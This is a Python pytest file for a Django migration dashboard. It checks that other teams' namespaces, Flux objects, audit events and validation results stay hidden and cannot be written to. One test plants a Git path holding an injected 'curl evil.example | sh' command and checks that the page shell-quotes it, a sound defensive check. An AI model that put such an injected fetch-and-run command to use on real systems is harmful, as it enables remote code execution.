"""Names of other teams' namespaces and objects appear on no page, and their Git paths cannot be written to."""

import io
import zipfile
from html import unescape
from typing import Any

import pytest
from django.db import transaction
from django.test import Client
from django.utils import timezone

from accounts.models import User
from audit.listing import Filters, matching
from audit.models import Event
from audit.trail import record
from cluster.policies import Admission, PolicyException
from cluster.values import Ref
from dashboard.models import Claim, Cluster, GitOpsFact, NamespaceFact, ValidationResult, ValidationRun
from dashboard.states import Answer, CheckKind, RunState
from dashboard.validation import Finding, policy_findings, summary
from migrations_app.actions import drafting
from migrations_app.models import Migration
from tests.migrations_app.making import WORKER
from tests.support.people import person
from worker.validation import _row

pytestmark = pytest.mark.django_db

SECRET = "zz-secret"


@pytest.fixture
def cluster() -> Cluster:
    found = Cluster.objects.create(name="c")
    now = timezone.now()

    def claim(uid: str, namespace: str, **fields: Any) -> None:
        Claim.objects.create(cluster=found, uid=uid, namespace=namespace, name="data", seen_at=now, **fields)

    def kustomization(uid: str, name: str) -> None:
        GitOpsFact.objects.create(
            cluster=found,
            uid=uid,
            kind="Kustomization",
            namespace="flux-system",
            name=name,
            ready="False",
            message=f"{name} is broken",
            path=f"./{name}",
            seen_at=now,
        )

    claim("a", "team-a", owner_kind="kustomization", owner_namespace="flux-system", owner_name="apps-of-a")
    claim("b", f"{SECRET}-b", owner_namespace="flux-system", owner_name=f"{SECRET}-apps")
    kustomization("ka", "apps-of-a")
    kustomization("kn", "namespaces-of-a")
    kustomization("kb", f"{SECRET}-apps")
    for name, owner in (("team-a", "flux-system/namespaces-of-a"), (f"{SECRET}-b", "")):
        NamespaceFact.objects.create(cluster=found, uid=name, name=name, owner_name=owner, seen_at=now)
    return found


@pytest.fixture
def browser() -> Client:
    found = Client()
    found.force_login(person("operator", "team-a"))
    return found


def a_draft(cluster: Cluster, browser: Client) -> Migration:
    return drafting.create_draft(
        by=person("operator", "team-a", name="operator2"),
        cluster=cluster,
        namespace="team-a",
        application="app",
        claims=["data"],
    )


def test_the_overview_shows_the_flux_objects_of_ones_own_claims_alone(
    cluster: Cluster, browser: Client
) -> None:
    page = browser.get("/").content.decode()
    assert "apps-of-a is broken" in page and "namespaces-of-a is broken" in page
    assert SECRET not in page


def test_a_claim_does_not_name_migrations_from_elsewhere(cluster: Cluster, browser: Client) -> None:
    Migration.objects.create(
        cluster=cluster,
        application=f"{SECRET}-application",
        source_namespace=f"{SECRET}-b",
        destination_namespace="team-a",
        requested_by_name="operator2",
    ).transfers.create(number=1, source_name="data", destination_name="data")
    answer = browser.get("/claims/c/team-a/data/")
    assert answer.status_code == 200 and SECRET not in answer.content.decode()


def test_the_trail_does_not_name_where_a_migration_goes_that_one_may_not_see(cluster: Cluster) -> None:
    hidden, shown, moved = (
        drafting.create_draft(
            by=person("operator", name=f"by-{application}"),
            cluster=cluster,
            namespace="team-a",
            application=application,
            claims=["data"],
        )
        for application in ("hidden", "shown", "moved")
    )
    drafting.set_destination(
        by=User.objects.get(username="by-hidden"),
        migration=hidden,
        namespace=f"{SECRET}-b",
        claims={"data": ("data", "", 0)},
        owner={},
    )
    for namespace in (f"{SECRET}-b", "team-a"):
        drafting.set_destination(
            by=User.objects.get(username="by-moved"),
            migration=moved,
            namespace=namespace,
            claims={"data": ("data-new", "", 0)},
            owner={},
        )
    acts = [
        ("PersistentVolume", "pv-1", {"namespace": f"{SECRET}-b"}, hidden),
        ("PersistentVolume", "pv-2", {}, shown),
        ("Deployment", "team-a/web", {}, hidden),
        ("validation", "7", None, hidden),
    ]
    for kind, key, after, of in acts:
        with transaction.atomic():
            said = None if after is None else {**after, "migration": of.reference}
            record(actor=WORKER, verb="x", kind=kind, key=key, namespace="team-a", after=said)
    auditor = Client()
    auditor.force_login(person("auditor", "team-a"))
    seen = set(
        matching(Filters(verb="x"), User.objects.get(username="auditor")).values_list("key", flat=True)
    )
    assert seen == {"pv-2", "team-a/web", "7"}
    page = auditor.get("/audit/").content.decode()
    assert shown.reference in page and hidden.reference not in page
    for event in Event.objects.filter(kind="migration"):
        if event.key == moved.reference:
            names_it = SECRET in str([event.before, event.after])
        else:
            names_it = event.key == hidden.reference
        expected = 404 if names_it else 200
        assert auditor.get(f"/audit/{event.sequence}/").status_code == expected
    exported = b"".join(auditor.post("/audit/export/").streaming_content)  # type: ignore[attr-defined]
    lines = zipfile.ZipFile(io.BytesIO(exported)).read("events.jsonl").decode()
    assert shown.reference in lines and SECRET not in lines
    everything = Client()
    everything.force_login(person("auditor", name="auditor-of-all"))
    assert hidden.reference in everything.get("/audit/").content.decode()


def test_a_command_to_copy_runs_nothing_that_a_path_says(cluster: Cluster, browser: Client) -> None:
    GitOpsFact.objects.filter(uid="ka").update(path="./apps; curl evil.example | sh")
    page = unescape(browser.get("/claims/c/team-a/data/").content.decode())
    assert "--path 'apps; curl evil.example | sh' --namespace" in page


def test_the_wizard_offers_and_takes_only_ones_own(cluster: Cluster, browser: Client) -> None:
    address = f"/migrations/{a_draft(cluster, browser).reference}/draft/destination/"
    page = browser.get(address).content.decode()
    assert "flux-system/apps-of-a" in page and SECRET not in page
    fields = {"namespace": "team-a", "name_data": "data-new", "class_data": "", "size_data": ""}
    refused = browser.post(address, {**fields, "owner": f"flux-system/{SECRET}-apps"})
    assert refused.status_code == 422
    assert Migration.objects.get().destination_owner == {}
    assert browser.post(address, {**fields, "owner": "flux-system/apps-of-a"}).status_code == 303


def test_a_destination_that_is_not_theirs_is_refused(cluster: Cluster, browser: Client) -> None:
    address = f"/migrations/{a_draft(cluster, browser).reference}/draft/destination/"
    fields = {"namespace": f"{SECRET}-b", "name_data": "data", "class_data": "", "size_data": "", "owner": ""}
    assert browser.post(address, fields).status_code == 403
    assert Migration.objects.get().destination_namespace == ""


@pytest.fixture
def run(cluster: Cluster) -> ValidationRun:
    """A validation that found something about both teams, and an exception of the other one."""
    exceptions = [
        PolicyException(ref=Ref("", "", namespace, "may-delete"), policies=(("keep", ()),))
        for namespace in ("team-a", f"{SECRET}-b")
    ]
    probes = [
        Finding(CheckKind.PROBE, answer, f"{namespace}/data", "Asked", namespace=namespace)
        for namespace, answer in (("team-a", Answer.PASS), (f"{SECRET}-b", Answer.FAIL))
        for _ in range(7)
    ]
    found = [*policy_findings(Admission(exceptions=tuple(exceptions))), *probes]
    made = ValidationRun.objects.create(
        cluster=cluster, state=RunState.FINISHED, answer=Answer.FAIL, summary=summary(found)
    )
    ValidationResult.objects.bulk_create([_row(made, each) for each in found])
    return made


@pytest.mark.parametrize("address", ["/", "/validation/"])
def test_a_validation_counts_and_names_what_one_may_see(
    run: ValidationRun, browser: Client, address: str
) -> None:
    page = browser.get(address).content.decode()
    assert "7 pass" in page and "7 fail" not in page and SECRET not in page
    assert ("Counted over the namespaces that you may see" in page) == (address == "/validation/")
    all_of_it = Client()
    all_of_it.force_login(person("viewer"))
    whole = all_of_it.get(address).content.decode()
    assert run.summary in whole and "Counted over" not in whole


def test_an_exception_that_was_found_before_it_had_a_namespace_is_not_named(
    run: ValidationRun, browser: Client
) -> None:
    run.results.filter(check_kind=CheckKind.POLICY).update(namespace="")
    assert SECRET not in browser.get("/validation/").content.decode()
